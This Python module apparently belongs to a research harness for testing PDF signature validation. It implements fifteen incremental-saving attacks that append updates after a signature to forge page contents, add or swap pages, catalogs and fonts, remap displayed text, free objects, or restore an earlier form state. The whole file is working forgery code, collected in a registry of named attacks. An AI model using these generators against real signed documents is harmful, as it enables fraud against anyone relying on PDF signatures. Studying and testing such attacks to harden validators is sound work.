"""ISA: content is replaced by an update after the signature (CCS 2019, §4.2), in four variants."""

import re

from attacks import writer
from attacks.victim import CONTENTS, LEADER_VALUE, PAGE, PAGES, Victim, name, refs
from attacks.writer import append, stream, write_objects, write_table

FORGED = {CONTENTS: stream(b"BT /F1+0 14 Tf 100 700 Td (0) Tj ET")}


def complete_update(victim: Victim) -> bytes:
    """Variant 1: a whole update with table and trailer."""
    return append(victim.sealed, FORGED)


def without_table(victim: Victim) -> bytes:
    """Variant 2: objects alone, for readers that rebuild the table themselves."""
    body, _ = write_objects(victim.sealed, FORGED)
    return body


def objects_and_trailer(victim: Victim) -> bytes:
    """Variant 3: objects and a trailer that names the old section."""
    body, _ = write_objects(victim.sealed, FORGED)
    back = writer.newest_section(victim.sealed)
    return body + b"trailer\n<</Size 900/Root 1 0 R/Prev %d>>\n" % back


def copied_signature(victim: Victim) -> bytes:
    """Variant 4: an update that ends with a copy of the signature dictionary."""
    found = re.search(rb"\n%d 0 obj\n(<<.*?>>)\nendobj" % LEADER_VALUE, victim.sealed, re.DOTALL)
    copy = b"" if found is None else found.group(1)
    return append(victim.sealed, {**FORGED, LEADER_VALUE: copy})


def without_end(victim: Victim) -> bytes:
    """An update that lacks its ``%%EOF``."""
    return append(victim.sealed, FORGED, end=b"")


def without_end_below_another(victim: Victim) -> bytes:
    """An update without its ``%%EOF``, and a harmless one above it."""
    return append(append(victim.led, FORGED, end=b""), {300: b"null"})


def page_tree_replaced(victim: Victim) -> bytes:
    """The page tree is written anew around a page of the attacker."""
    page = victim.entry(PAGE, Contents=None)
    tree = victim.entry(PAGES, Kids=refs(300))
    return append(victim.sealed, {300: page, PAGES: tree})


def page_added(victim: Victim) -> bytes:
    """A page is added behind the signed ones."""
    tree = victim.entry(PAGES, Kids=refs(PAGE, 300), Count=2)
    return append(victim.sealed, {300: victim.entry(PAGE), PAGES: tree})


def catalog_switched(victim: Victim) -> bytes:
    """The trailer names another catalog, with another page tree."""
    catalog = victim.catalog(Pages=refs(301)[0])
    tree = victim.entry(PAGES, Kids=refs(300))
    objects = {300: victim.entry(PAGE, Contents=None), 301: tree, 302: catalog}
    return append(victim.sealed, objects, root=302)


def page_turned(victim: Victim) -> bytes:
    """The page is cut to a part of itself."""
    return append(victim.sealed, {PAGE: victim.page(CropBox=[0, 0, 200, 200])})


def font_replaced(victim: Victim) -> bytes:
    """A font is written anew, so that the same codes show other letters."""
    fake = victim.entry(7, FontDescriptor=None, BaseFont=name("Courier"))
    return append(victim.sealed, {7: fake})


def unicode_map_replaced(victim: Victim) -> bytes:
    """Only the map from codes to text is written anew: what is read is not what is shown."""
    return append(victim.sealed, {12: stream(b"1 beginbfrange <00><ff><0041> endbfrange")})


def resources_replaced(victim: Victim) -> bytes:
    """The font dictionary of the page gives two fonts each other's name."""
    fonts = {"F1+0": refs(8)[0], "F2+0": refs(7)[0]}
    return append(victim.sealed, {6: victim.entry(6, **fonts)})


def object_freed(victim: Victim) -> bytes:
    """The contents of the page are marked as free."""
    return append(victim.sealed, {}, free=(CONTENTS,))


def older_state_restored(victim: Victim) -> bytes:
    """An update leads back to what the form was before the number was filled in."""
    place = victim.sealed.index(b"\n101 0 obj") + 1
    return write_table(victim.sealed, {101: place})


ATTACKS = {
    "isa-complete-update": complete_update,
    "isa-without-table": without_table,
    "isa-objects-and-trailer": objects_and_trailer,
    "isa-copied-signature": copied_signature,
    "isa-without-end": without_end,
    "isa-without-end-below-another": without_end_below_another,
    "isa-page-tree-replaced": page_tree_replaced,
    "isa-page-added": page_added,
    "isa-catalog-switched": catalog_switched,
    "isa-page-cut": page_turned,
    "isa-font-replaced": font_replaced,
    "isa-unicode-map-replaced": unicode_map_replaced,
    "isa-resources-replaced": resources_replaced,
    "isa-object-freed": object_freed,
    "isa-older-state-restored": older_state_restored,
}
